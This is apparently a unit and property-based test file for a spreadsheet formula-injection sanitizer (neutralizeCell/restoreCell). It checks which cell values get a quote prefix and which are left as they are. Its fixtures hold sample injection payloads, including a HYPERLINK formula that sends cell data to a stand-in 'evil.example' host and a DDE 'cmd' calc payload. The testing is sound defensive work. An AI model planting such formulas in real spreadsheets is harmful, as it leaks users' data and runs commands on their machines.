import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, restoreCell } from '../src/security/formula.js';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];
const PLAIN_NUMBER = /^[+-](?:\d+(?:\.\d+)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const PHONE = /^\+\d(?:[\d ().\/-]*\d)?$/;

/** What a spreadsheet would see first (past leading spaces) is a trigger. */
function startsDangerously(cell: string): boolean {
  return TRIGGERS.includes(cell.replace(/^ +/, '')[0] ?? '');
}
/** The cases left alone on purpose: a plain number, a phone number, a lone sign. */
function allowedAsIs(cell: string): boolean {
  const c = cell.replace(/^ +/, '');
  return c === '+' || c === '-' || PLAIN_NUMBER.test(c) || PHONE.test(c);
}

// Cells built to hit the interesting starts often: triggers, spaces, signs, digits, quotes.
const cell = fc.oneof(
  fc.string({ unit: 'grapheme-ascii', maxLength: 20 }),
  fc.tuple(fc.constantFrom(...TRIGGERS, ' ', "'", ' =', "'=", '+1', '-1'), fc.string({ unit: 'grapheme-ascii', maxLength: 16 })).map(([a, b]) => a + b),
  fc
    .array(fc.tuple(fc.constantFrom('', '=', '+1', '-', "'", ' @', 'a', "'+x", '\t'), fc.string({ unit: 'grapheme-ascii', maxLength: 6 })), { maxLength: 4 })
    .map((parts) => parts.map(([a, b]) => a + b).join(';')),
  fc.stringMatching(/^[+-]\d{1,12}(\.\d{1,4})?$/),
  fc.stringMatching(/^\+[1-9][\d ().\/-]{0,16}\d$/),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

describe('neutralizeCell', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['+A1', "'+A1"],
    ['-2+3', "'-2+3"],
    ['-foo@example.com', "'-foo@example.com"],
    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
    // The tab is both a trigger at the start and a place where a tab-splitting reader cuts.
    ['\t=1', "'\t'=1"],
    ['x;=1+2', "x;'=1+2"],
    ['a\t@x', "a\t'@x"],
    ['=a;=b', "'=a;'=b"],
    ['a;-1+2', "a;'-1+2"],
    ['a;  +A1;b', "a;'  +A1;b"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['\0x', "'\0x"],
    ['  =1+2', "'  =1+2"],
    ['--', "'--"],
    ['+1 415 555 0100 ext 7', "'+1 415 555 0100 ext 7"],
    ['+44 20 7946 0958 ', "'+44 20 7946 0958 "],
  ])('neutralizes %j', (input, output) => {
    expect(neutralizeCell(input)).toBe(output);
  });

  it.each([
    '',
    'Ada Lovelace',
    'ada@example.com',
    '2219259',
    "'=1+2",
    ' Ada',
    'a=b',
    '-12.5',
    '+3',
    '-0.5e-3',
    '-.5',
    '+14155550100',
    '+44 20 7946 0958',
    '+1 (415) 555-0100',
    '+49.30.123456',
    '+33/1/23/45/67/89',
    '-',
    '+',
    '  -12',
    'a;b',
    'Tel;+14155550100',
    'a; -1;+2.5',
    "a;'=b",
    'Smith; Jr.',
  ])('leaves %j as it is', (input) => {
    expect(neutralizeCell(input)).toBe(input);
  });

  it('never lets a dangerous start through, except a plain number or phone number', () => {
    fc.assert(
      fc.property(cell, (c) => {
        const out = neutralizeCell(c);
        if (startsDangerously(out)) expect(allowedAsIs(out)).toBe(true);
        // Nor at the start of a piece a ;- or tab-splitting spreadsheet would cut it into.
        for (const piece of out.split(/[;\t]/).slice(1)) {
          if (startsDangerously(piece)) expect(allowedAsIs(piece)).toBe(true);
        }
        // Only ever quotes added: take them out and the value is what it was.
        expect(out.length - c.length).toBe([...out].filter((ch) => ch === "'").length - [...c].filter((ch) => ch === "'").length);
      }),
      { numRuns: 2000 },
    );
  });

  it('is idempotent: a neutralized cell is not prefixed again', () => {
    fc.assert(
      fc.property(cell, (c) => {
        const once = neutralizeCell(c);
        expect(neutralizeCell(once)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });

  it('returns the very same string when the first character is harmless', () => {
    const s = 'Grace Hopper'.repeat(3);
    expect(Object.is(neutralizeCell(s), s)).toBe(true);
  });
});

describe('restoreCell', () => {
  it('undoes neutralizeCell, except for a cell that itself looks neutralized', () => {
    fc.assert(
      fc.property(cell, (c) => {
        if (restoreCell(c) === c) expect(restoreCell(neutralizeCell(c))).toBe(c);
      }),
      { numRuns: 2000 },
    );
  });

  it('strips only a quote that neutralizeCell would have added', () => {
    expect(restoreCell("'=1+2")).toBe('=1+2');
    expect(restoreCell("'-foo@example.com")).toBe('-foo@example.com');
    expect(restoreCell("'Brien")).toBe("'Brien");
    expect(restoreCell("'-12")).toBe("'-12");
    expect(restoreCell("'+14155550100")).toBe("'+14155550100");
    expect(restoreCell('=1')).toBe('=1');
    expect(restoreCell("x;'=1+2")).toBe('x;=1+2');
    expect(restoreCell("'\t'=1")).toBe('\t=1');
    expect(restoreCell("a;'b")).toBe("a;'b");
  });
});
